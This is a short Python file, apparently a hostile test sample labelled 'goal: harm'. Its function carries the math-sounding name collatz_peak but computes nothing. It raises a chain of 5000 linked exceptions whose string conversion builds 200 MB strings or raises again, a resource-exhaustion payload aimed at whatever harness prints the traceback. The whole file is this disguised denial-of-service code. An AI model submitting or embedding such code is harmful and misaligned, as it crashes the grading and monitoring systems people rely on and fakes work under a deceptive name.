# family: result; goal: harm
# An exception with a text of 200 MB, whose own text raises again, in a chain of thousands.
class Long(Exception):
    def __str__(self):
        if len(self.args) > 1:
            raise Long("x" * 200_000_000)
        return "y" * 200_000_000


def collatz_peak(n):
    error = None
    for _ in range(5000):
        fresh = Long(1, 2)
        fresh.__cause__ = error
        error = fresh
    raise error
